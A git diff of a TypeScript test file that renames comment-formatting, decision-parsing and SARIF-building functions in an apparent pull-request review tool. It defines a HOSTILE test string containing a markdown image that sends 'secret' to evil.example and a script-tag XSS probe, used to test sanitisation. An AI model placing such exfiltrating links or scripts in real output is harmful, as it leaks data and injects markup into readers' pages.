@@ -3,8 +3,8 @@ import { describe, expect, test } from "vitest";
 import { handmade, QUOTE } from "../../test/support/handmade.ts";
 import { auditOf } from "../audit/audit.ts";
 import { transcriptOf } from "../domain/transcript.ts";
-import { commentMark, commentText, decisionIn } from "./comment.ts";
-import { linesOf, sarifLog } from "./sarif.ts";
+import { formatCommentMark, formatPullRequestComment, parseDecisionCommand } from "./comment.ts";
+import { findQuoteLines, buildSarifLog } from "./sarif.ts";
 
 const HOSTILE = "@octocat see #12 ![](https://evil.example/?q=secret) <script>alert(1)</script>";
 
@@ -35,11 +35,11 @@ describe("a comment", () => {
     advisory: false,
     reasons: [{ kind: "disagreement", code: "contested", message: HOSTILE }],
   };
-  const text = commentText(transcriptOf(contested), "cache", { audit, verdict });
+  const text = formatPullRequestComment(transcriptOf(contested), "cache", { audit, verdict });
 
   test("is found again by its first line", () => {
-    expect(text.split("\n")[0]).toBe(commentMark("cache"));
-    expect(commentMark("--> <b>")).toBe("<!-- dissent:-----b- -->");
+    expect(text.split("\n")[0]).toBe(formatCommentMark("cache"));
+    expect(formatCommentMark("--> <b>")).toBe("<!-- dissent:-----b- -->");
   });
 
   test("K17 calls nobody, links nothing and holds no markup of a model's", () => {
@@ -61,7 +61,7 @@ describe("a comment", () => {
     const long = transcriptOf(contested);
     const notices = Array.from({ length: 2_000 }, () => "a notice of some length, ".repeat(4));
 
-    const cut = commentText({ ...long, notices }, "cache", { audit, verdict });
+    const cut = formatPullRequestComment({ ...long, notices }, "cache", { audit, verdict });
 
     expect(cut.length).toBeLessThan(65_536);
     expect(cut).toContain("Cut here");
@@ -71,7 +71,9 @@ describe("a comment", () => {
 describe("a decision in a comment", () => {
   test("is a line that begins with /dissent decide", () => {
     expect(
-      decisionIn("I thought about it.\n/dissent decide C because we pilot it first \r\nBye"),
+      parseDecisionCommand(
+        "I thought about it.\n/dissent decide C because we pilot it first \r\nBye",
+      ),
     ).toEqual({ choice: "C", reason: "we pilot it first" });
   });
 
@@ -82,7 +84,7 @@ describe("a decision in a comment", () => {
     "see /dissent decide C because it is in a sentence",
     "/dissent decide because there is no option",
   ])("%j is none", (comment) => {
-    expect(decisionIn(comment)).toBeUndefined();
+    expect(parseDecisionCommand(comment)).toBeUndefined();
   });
 });
 
@@ -90,13 +92,13 @@ describe("objections at their lines", () => {
   const text = `---\nquestion: x\n---\n# Plan\n\nWe know that a wrong merge\nsilently overwrites a “safety”   record.\n`;
 
   test("a quote is found across lines, as quotes are checked", () => {
-    expect(linesOf(text, 'a wrong merge silently overwrites a "safety" record')).toEqual({
+    expect(findQuoteLines(text, 'a wrong merge silently overwrites a "safety" record')).toEqual({
       first: 6,
       last: 7,
     });
-    expect(linesOf(text, "not in it")).toBeNull();
-    expect(linesOf("", "")).toBeNull();
-    expect(linesOf("one\r\ntwo\r\nthree", "three")).toEqual({ first: 3, last: 3 });
+    expect(findQuoteLines(text, "not in it")).toBeNull();
+    expect(findQuoteLines("", "")).toBeNull();
+    expect(findQuoteLines("one\r\ntwo\r\nthree", "three")).toEqual({ first: 3, last: 3 });
   });
 
   test("only what stands against someone and rests on a file is told", () => {
@@ -106,10 +108,10 @@ describe("objections at their lines", () => {
       version: "1",
     };
 
-    const log = sarifLog(contested, auditOf(contested), setting) as {
+    const log = buildSarifLog(contested, auditOf(contested), setting) as {
       runs: { results: { ruleId: string; message: { text: string }; locations: unknown[] }[] }[];
     };
-    const without = sarifLog(contested, auditOf(contested), {
+    const without = buildSarifLog(contested, auditOf(contested), {
       ...setting,
       pathOf: () => undefined,
     });
